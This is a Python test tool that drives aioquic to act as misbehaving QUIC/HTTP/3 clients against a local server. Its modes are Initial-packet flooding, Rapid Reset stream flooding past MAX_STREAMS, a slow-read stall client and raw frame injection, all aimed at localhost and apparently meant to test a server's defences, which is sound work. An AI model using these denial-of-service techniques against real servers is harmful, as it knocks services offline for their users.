#!/usr/bin/env python3
"""Misbehaving QUIC clients for the attack tests, on aioquic's sans-IO
QuicConnection and a raw UDP socket.

h3raw.py initial-flood --port P --count N
    N connection attempts from one socket: each a fresh client's first
    Initial datagram (a real ClientHello, so the server must act on it),
    never followed up. Prints {"sent": N, "retries": R, "other": O}: the
    datagrams that came back, Retry packets (RFC 9000 §17.2.5) apart.
h3raw.py stream-flood --port P --path PATH --count N --hold S [--obey]
    One connection that opens N request streams for PATH and resets each
    at once (HTTP/2's Rapid Reset, on QUIC), for S seconds, answering
    the server's packets all along; with --obey only as many as the
    server's MAX_STREAMS allows, else past it. With --open each stream
    is a POST announcing a 1-byte body that never comes, neither reset
    nor ended (the server waits for the body, so it cannot count the
    stream done and give its credit back), and they go out past
    MAX_STREAMS whatever credit aioquic has seen. Prints
    {"opened": n, "closed": whether the server closed the connection,
    "error": code, "reason": its reason phrase}.
h3raw.py stall --port P --path PATH
    A client that completes the handshake, asks for PATH, takes a few
    datagrams and then never reads (nor acknowledges) again; it keeps its
    socket open for --hold seconds. Prints {"received": bytes}.
h3raw.py raw --port P [--uni HEX]... [--bidi HEX] [--hold S]
    Raw HTTP/3 bytes, no H3Connection: each --uni opens a unidirectional
    stream carrying HEX (its type byte first), --bidi one request stream
    carrying HEX and then its FIN. Waits up to S seconds for the server to
    close the connection or answer the request stream (its end or reset).
    Prints {"closed": bool, "error": code, "reset": code, "answer": hex}.
"""
import argparse
import json
import os
import socket
import ssl
import time

from aioquic.h3.connection import H3_ALPN, H3Connection
from aioquic.quic.configuration import QuicConfiguration
from aioquic.quic.connection import QuicConnection


def timer(q):
    """Runs the connection's timer if it is due."""
    t = q.get_timer()
    if t is not None and time.time() >= t:
        q.handle_timer(now=time.time())


def config():
    c = QuicConfiguration(is_client=True, alpn_protocols=H3_ALPN, server_name="localhost")
    c.verify_mode = ssl.CERT_NONE
    return c


def initial_flood(a):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4 << 20)
    addr = ("127.0.0.1", a.port)
    sent = 0
    for _ in range(a.count):
        q = QuicConnection(configuration=config())
        q.connect(addr, now=time.time())
        for data, _ in q.datagrams_to_send(now=time.time()):
            s.sendto(data, addr)
            sent += 1
            break
    # Until every attempt had its answer (a Retry, or the server's Initial
    # for those it let in), by the client connection ID each answer is
    # addressed to, not for a fixed time: a loaded server may take more
    # than a second to answer the last ones. A deadline still ends it.
    retries = other = 0
    answered = set()
    s.settimeout(0.2)
    deadline = time.time() + 20
    while len(answered) < sent and time.time() < deadline:
        try:
            data, _ = s.recvfrom(65536)
        except socket.timeout:
            continue
        if data[0] & 0x80 and len(data) > 6:
            answered.add(bytes(data[6:6 + data[5]]))
        # A long header (0x80) of type Retry (0x30) in version 1.
        if data[0] & 0xB0 == 0xB0 and data[1:5] == b"\x00\x00\x00\x01":
            retries += 1
        else:
            other += 1
    print(json.dumps({"sent": sent, "retries": retries, "other": other}), flush=True)


def stall(a):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    addr = ("127.0.0.1", a.port)
    q = QuicConnection(configuration=config())
    q.connect(addr, now=time.time())
    h3 = None
    sid = None
    received = 0
    s.settimeout(0.05)
    deadline = time.time() + 20
    while time.time() < deadline:
        for data, _ in q.datagrams_to_send(now=time.time()):
            s.sendto(data, addr)
        if h3 is None and q._handshake_complete:
            h3 = H3Connection(q)
            sid = q.get_next_available_stream_id()
            h3.send_headers(sid, [
                (b":method", b"GET"), (b":scheme", b"https"),
                (b":authority", b"localhost"), (b":path", a.path.encode()),
            ], end_stream=True)
            continue
        try:
            data, _ = s.recvfrom(65536)
        except socket.timeout:
            timer(q)
            continue
        received += len(data)
        q.receive_datagram(data, addr, now=time.time())
        while q.next_event() is not None:
            pass
        if received > a.take:
            break
    # From here on: no reads, no acknowledgements, the socket still open.
    print(json.dumps({"received": received}), flush=True)
    time.sleep(a.hold)
    os._exit(0)


def stream_flood(a):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    addr = ("127.0.0.1", a.port)
    q = QuicConnection(configuration=config())
    q.connect(addr, now=time.time())
    h3 = None
    opened = 0
    s.settimeout(0.01)
    deadline = time.time() + a.hold
    while time.time() < deadline:
        if h3 is None and q._handshake_complete:
            h3 = H3Connection(q)
        if h3 is not None and opened < a.count:
            # As many as the server's MAX_STREAMS lets through now.
            for _ in range(16):
                if opened >= a.count:
                    break
                # --obey: within the server's MAX_STREAMS (RFC 9000
                # §4.6); without it, past it.
                if a.obey and opened >= q._remote_max_streams_bidi:
                    break
                if a.open:
                    # aioquic would hold streams past the peer's limit
                    # back (STREAMS_BLOCKED): pretend it allows them.
                    q._remote_max_streams_bidi = max(q._remote_max_streams_bidi, a.count)
                sid = q.get_next_available_stream_id()
                if a.open:
                    head = [(b":method", b"POST"), (b":scheme", b"https"),
                            (b":authority", b"localhost"), (b":path", a.path.encode()),
                            (b"content-length", b"1")]
                else:
                    head = [(b":method", b"GET"), (b":scheme", b"https"),
                            (b":authority", b"localhost"), (b":path", a.path.encode())]
                h3.send_headers(sid, head, end_stream=not a.open)
                if not a.open:
                    q.reset_stream(sid, 0x10C)  # H3_REQUEST_CANCELLED
                opened += 1
        for data, _ in q.datagrams_to_send(now=time.time()):
            s.sendto(data, addr)
        try:
            data, _ = s.recvfrom(65536)
            q.receive_datagram(data, addr, now=time.time())
            while q.next_event() is not None:
                pass
        except socket.timeout:
            timer(q)
    closed = q._close_event is not None
    print(json.dumps({"opened": opened, "closed": closed,
                      "error": getattr(q._close_event, "error_code", None),
                      "reason": getattr(q._close_event, "reason_phrase", None)}), flush=True)
    os._exit(0)


def raw(a):
    from aioquic.quic.events import (ConnectionTerminated, StreamDataReceived,
                                     StreamReset)
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    addr = ("127.0.0.1", a.port)
    q = QuicConnection(configuration=config())
    q.connect(addr, now=time.time())
    s.settimeout(0.01)
    sent = False
    bidi = None
    error = None
    reset = None
    answer = b""
    done = False
    deadline = time.time() + a.hold
    while time.time() < deadline and not done:
        if not sent and q._handshake_complete:
            sent = True
            for hexdata in a.uni:
                sid = q.get_next_available_stream_id(is_unidirectional=True)
                q.send_stream_data(sid, bytes.fromhex(hexdata), end_stream=False)
            if a.bidi is not None:
                bidi = q.get_next_available_stream_id()
                q.send_stream_data(bidi, bytes.fromhex(a.bidi), end_stream=True)
        for data, _ in q.datagrams_to_send(now=time.time()):
            s.sendto(data, addr)
        try:
            data, _ = s.recvfrom(65536)
            q.receive_datagram(data, addr, now=time.time())
        except socket.timeout:
            timer(q)
        while True:
            e = q.next_event()
            if e is None:
                break
            if isinstance(e, ConnectionTerminated):
                error = e.error_code
                done = True
            elif isinstance(e, StreamReset) and e.stream_id == bidi:
                reset = e.error_code
                done = True
            elif isinstance(e, StreamDataReceived) and e.stream_id == bidi:
                answer += e.data
                done = done or e.end_stream
    print(json.dumps({"closed": error is not None, "error": error, "reset": reset,
                      "answer": answer.hex()}), flush=True)
    os._exit(0)


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("mode", choices=["initial-flood", "stall", "stream-flood", "raw"])
    ap.add_argument("--port", type=int, required=True)
    ap.add_argument("--count", type=int, default=1000)
    ap.add_argument("--path", default="/")
    ap.add_argument("--take", type=int, default=64 << 10)
    ap.add_argument("--hold", type=float, default=30)
    ap.add_argument("--obey", action="store_true")
    ap.add_argument("--open", action="store_true")
    ap.add_argument("--uni", action="append", default=[])
    ap.add_argument("--bidi")
    a = ap.parse_args()
    if a.mode == "initial-flood":
        initial_flood(a)
    elif a.mode == "stream-flood":
        stream_flood(a)
    elif a.mode == "raw":
        raw(a)
    else:
        stall(a)


if __name__ == "__main__":
    main()
